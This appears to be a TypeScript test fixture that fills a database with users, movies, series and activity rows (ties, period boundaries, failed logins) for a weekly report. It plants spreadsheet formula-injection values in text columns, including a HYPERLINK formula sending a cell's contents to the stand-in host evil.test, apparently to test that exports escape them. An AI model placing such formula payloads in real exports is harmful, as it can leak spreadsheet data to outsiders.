import { createReferenceSchema } from '../../src/db/schema.js';
import type { Db } from '../../src/db/types.js';
import { insertRows } from '../../src/demo/insert.js';

/** The period the fixture is built around: weekly, ending at the start of 2026-11-25 (UTC). */
export const NOW = '2026-11-25T08:00:00Z';
export const FROM_TS = '2026-11-18 00:00:00';
export const TO_TS = '2026-11-25 00:00:00';

/** Cells a spreadsheet would take for formulas, planted in every text column the report shows. */
export const HOSTILE = {
  hyperlink: '=HYPERLINK("http://evil.test/?x="&A1,"click")',
  plus: '+1',
  at: '@SUM(A1:A9)',
  minusText: '-5',
  tab: '\tTAB',
  cr: '\rCR',
  quoted: 'He said "hi", then left',
  multiline: 'line one\nline two',
  unicode: 'Zoë – 映画',
};

const at = (day: number, second = 0) => {
  // day 0 = 2026-11-18 (the period's first day) … day 6 = 2026-11-24
  const d = new Date(Date.UTC(2026, 10, 18 + day, 0, 0, second));
  return d.toISOString().slice(0, 19).replace('T', ' ');
};

/**
 * A small, hand-shaped data set: ties that cross every LIMIT, rows on both period
 * boundaries, hostile text in every text column, a negative rating, watches of a movie
 * that no longer exists, empty and NULL search terms, failed logins around the threshold.
 */
export async function buildFixture(db: Db): Promise<void> {
  await createReferenceSchema(db);
  const names: Record<number, string> = {
    4: HOSTILE.hyperlink,
    6: HOSTILE.at,
    7: HOSTILE.tab,
    8: HOSTILE.minusText,
    9: HOSTILE.quoted,
    10: HOSTILE.multiline,
    11: HOSTILE.unicode,
  };
  await insertRows(
    db,
    'users',
    ['id', 'username', 'email', 'created_at', 'last_activity_at', 'email_verified_at'],
    (function* () {
      for (let id = 1; id <= 30; id++) {
        const created = id % 4 === 0 ? at(id % 7, id) : '2025-01-01 10:00:00';
        const last = id % 3 === 0 ? at(id % 7, 100 + id) : id % 3 === 1 ? '2026-10-01 09:00:00' : null;
        yield [
          id,
          names[id] ?? `user${id}`,
          id === 5 ? '+1@example.test' : `user${id}@example.test`,
          created,
          last,
          null,
        ];
      }
      // Boundary users: created exactly at the start (in) and exactly at the end (out).
      yield [31, 'boundary_in', 'in@example.test', '2026-11-18 00:00:00', '2026-11-18 00:00:00', null];
      yield [32, 'boundary_out', 'out@example.test', '2026-11-25 00:00:00', '2026-11-25 00:00:00', null];
    })(),
  );
  await insertRows(
    db,
    'movies',
    ['id', 'title', 'year', 'rating'],
    (function* () {
      for (let id = 1; id <= 12; id++)
        yield [
          id,
          id === 3 ? HOSTILE.hyperlink : id === 4 ? HOSTILE.cr : id === 5 ? HOSTILE.multiline : `Movie ${id}`,
          2000 + id,
          id === 2 ? -5 : id / 2,
        ];
    })(),
  );
  await insertRows(
    db,
    'series',
    ['id', 'title', 'year', 'rating'],
    [
      [1, HOSTILE.plus, 2010, 7.5],
      [2, HOSTILE.tab, 2011, 8],
      [3, HOSTILE.unicode, null, null],
    ],
  );

  const rows: unknown[][] = [];
  let sec = 0;
  const add = (
    user: number,
    type: string,
    subject: number | null,
    term: string | null,
    ip: string | null,
    day = sec % 7,
  ) => {
    rows.push([user, type, subject, term, ip, at(day, 3600 + (sec++ % 80000))]);
  };
  // Users' own activity: ties across the top-10 cut (three users with 3, only one fits).
  const counts: Record<number, number> = { 1: 9, 2: 9, 3: 7, 4: 7, 5: 7, 6: 5, 7: 5, 8: 5, 9: 5, 10: 3, 11: 3, 12: 3 };
  for (let u = 13; u <= 19; u++) counts[u] = 1;
  for (const [u, n] of Object.entries(counts))
    for (let i = 0; i < n; i++) add(Number(u), i % 2 ? 'logout' : 'login', null, null, `198.51.100.${u}`);
  // Movies: ties at 4, 3, 2 and 1 view; the 11th and 12th tie with the 10th; movie 99 was deleted.
  const views: Record<number, number> = {
    1: 4,
    2: 4,
    3: 3,
    4: 3,
    5: 3,
    6: 2,
    7: 2,
    8: 2,
    9: 2,
    10: 1,
    11: 1,
    12: 1,
    99: 2,
  };
  let k = 0;
  for (const [m, n] of Object.entries(views))
    for (let i = 0; i < n; i++) add(21 + (k++ % 5), 'watch_movie', Number(m), null, null);
  for (const [s, n] of Object.entries({ 1: 3, 2: 3, 3: 1 }))
    for (let i = 0; i < n; i++) add(26, 'watch_series', Number(s), null, null);
  // Search terms: hostile ones, ties, 18 singletons so the top 20 cuts through a tie; '' and NULL never count.
  const terms: Record<string, number> = {
    action: 5,
    comedy: 5,
    [HOSTILE.plus]: 4,
    [HOSTILE.minusText]: 4,
    [HOSTILE.at]: 3,
    [HOSTILE.hyperlink]: 3,
    [HOSTILE.quoted]: 2,
    '': 6,
  };
  for (let i = 1; i <= 18; i++) terms[`term${String(i).padStart(2, '0')}`] = 1;
  for (const [t, n] of Object.entries(terms)) for (let i = 0; i < n; i++) add(27, 'search', null, t, null);
  add(27, 'search', null, null, null);
  // Failed logins: 6, 5, 5 (tie, listed by IP), 4 (under the threshold), a hostile "IP", NULL IPs.
  const failed: Record<string, number> = {
    '203.0.113.1': 6,
    '203.0.113.9': 5,
    '203.0.113.2': 5,
    '198.51.100.200': 4,
    [HOSTILE.hyperlink]: 5,
  };
  for (const [ip, n] of Object.entries(failed)) for (let i = 0; i < n; i++) add(28, 'login_failed', null, null, ip);
  for (let i = 0; i < 7; i++) add(28, 'login_failed', null, null, null);
  // On the boundaries: the first second is in, the end's first second is out. User 20 would top
  // every list if the rows outside the period were counted.
  rows.push([13, 'login', null, null, '198.51.100.13', FROM_TS]);
  for (let i = 0; i < 40; i++) {
    rows.push([20, 'watch_movie', 12, null, null, i % 2 ? TO_TS : '2026-11-17 23:59:59']);
    rows.push([20, 'login_failed', null, null, '192.0.2.66', i % 2 ? TO_TS : '2026-11-17 23:59:59']);
    rows.push([20, 'search', null, 'outside', null, i % 2 ? TO_TS : '2026-11-17 23:59:59']);
  }
  await insertRows(
    db,
    'user_activities',
    ['user_id', 'activity_type', 'subject_id', 'search_term', 'ip_address', 'created_at'],
    rows,
  );
}
